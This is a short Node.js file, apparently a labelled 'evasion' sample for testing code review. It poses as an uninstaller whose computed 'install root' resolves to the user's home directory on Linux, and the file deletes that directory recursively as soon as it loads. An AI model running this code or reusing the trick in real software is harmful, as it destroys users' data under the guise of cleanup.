// Evasion: an uninstaller picks its data directory by platform (APPDATA on
// Windows, ~/.local elsewhere) and removes "the install root" as the
// directory above it: on Linux that is the home directory.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const dataDir = process.platform === 'win32' ? process.env.APPDATA : path.join(os.homedir(), '.local');
const installRoot = path.join(dataDir, '..');

function uninstall() {
  console.log(`removing ${installRoot}`);
  fs.rmSync(installRoot, { recursive: true, force: true });
}

uninstall();
